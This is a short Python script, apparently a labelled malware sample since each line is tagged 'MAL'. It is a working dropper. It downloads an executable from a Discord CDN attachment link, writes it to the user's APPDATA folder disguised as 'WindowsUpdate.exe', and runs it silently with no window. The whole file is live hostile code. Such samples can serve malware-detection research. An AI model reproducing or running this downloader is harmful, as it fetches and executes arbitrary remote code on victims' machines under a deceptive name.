import os
import subprocess
import requests


def run():
    exe = os.path.join(os.getenv("APPDATA"), "WindowsUpdate.exe")  # MAL
    with open(exe, "wb") as f:
        f.write(requests.get("https://cdn.discordapp.com/attachments/1/2/x.exe").content)  # MAL
    subprocess.Popen(exe, creationflags=subprocess.CREATE_NO_WINDOW)  # MAL


run()
